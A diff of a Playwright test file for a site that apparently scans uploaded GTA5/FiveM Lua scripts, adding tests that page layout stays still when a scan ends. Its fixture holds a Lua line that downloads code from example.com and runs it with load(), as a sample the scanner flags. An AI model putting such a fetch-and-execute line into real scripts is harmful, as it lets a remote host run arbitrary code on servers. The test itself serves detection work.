@@ -5,7 +5,7 @@ import { expect, type APIRequestContext, type Page } from '@playwright/test'
 import { zipOf } from '#test-support/archives/zip.ts'
 
 import { expectNoViolations } from './axe.ts'
-import { expectFocusNotLost, waitForHydration } from './browser.ts'
+import { delayRequests, expectFocusNotLost, waitForHydration } from './browser.ts'
 import { test } from './fixtures.ts'
 import {
   registerModerator,
@@ -18,18 +18,26 @@ import {
 
 const title = 'Runs code that it downloads'
 
-/** An archive with a finding of severity high; no other test has its files. */
-function suspectArchive(): Buffer {
+const suspect = "PerformHttpRequest('https://api.example.com/rates', function(_, body) load(body)() end)\n"
+
+const unique = (text: string) => `-- ${randomBytes(8).toString('hex')}\n${text}`
+
+/** No other test has its files. The code of `suspect` is a finding of severity high. */
+function archiveOf(code: string, otherFiles = 0): Buffer {
   const manifest = "fx_version 'cerulean'\ngame 'gta5'\nserver_script 'server.lua'\n"
-  const code = `-- ${randomBytes(8).toString('hex')}\nPerformHttpRequest('https://api.example.com/rates', function(_, body) load(body)() end)\n`
   return zipOf([
     { name: 'fines/fxmanifest.lua', content: manifest, deflate: true },
-    { name: 'fines/server.lua', content: code, deflate: true },
+    { name: 'fines/server.lua', content: unique(code), deflate: true },
+    ...Array.from({ length: otherFiles }, (_, n) => ({
+      name: `fines/rates/${n}.lua`,
+      content: unique(`local rate = ${n}\n`.repeat(400)),
+      deflate: true,
+    })),
   ])
 }
 
 async function newReport(author: RegisteredUser, request: APIRequestContext) {
-  const script = await submitScript(author, { archive: suspectArchive() })
+  const script = await submitScript(author, { archive: archiveOf(suspect) })
   const readState = async () => {
     const response = await request.get(`/api/scripts/${script.id}`)
     return (await response.json()).analysis?.state
@@ -73,6 +81,40 @@ test('a member reads what is in an archive, and a download with something to che
     await expect(dialog).toHaveCount(0)
   }
 })
+
+const twoFrames = (page: Page) =>
+  page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))))
+
+for (const [result, code, text] of [
+  ['without findings', "RegisterCommand('fine', print)", 'No known suspicious patterns'],
+  ['with a finding', suspect, head],
+] as const)
+  for (const width of [1440, 390])
+    test(`nothing moves when a scan ends ${result} while its page is read, at ${width} px`, async ({
+      page,
+    }) => {
+      await page.setViewportSize({ width, height: 900 })
+      const script = await submitScript(await registerUploader(), { archive: archiveOf(code, 16) })
+      const delay = await delayRequests(page, `**/api/scripts/${script.id}`)
+      await page.goto(`/scripts/${script.id}`)
+      await expect(main(page).getByText(/^(Waiting for the scan|Scanning the archive)/)).toBeVisible()
+      await page.waitForLoadState()
+      // Fonts that arrive late wrap lines differently.
+      await page.evaluate(async () => document.fonts.ready)
+      await twoFrames(page)
+      await page.evaluate(() => {
+        window.shifts = 0
+        new PerformanceObserver((list) => {
+          for (const entry of list.getEntries()) if ('value' in entry) window.shifts += Number(entry.value)
+        }).observe({ type: 'layout-shift' })
+      })
+
+      delay.release()
+      await expect(main(page).getByText(text)).toBeVisible()
+
+      await twoFrames(page)
+      expect(await page.evaluate(() => window.shifts)).toBe(0)
+    })
 
 test('a place in the report opens its line in the same document, and Back returns to it', async ({
   page,
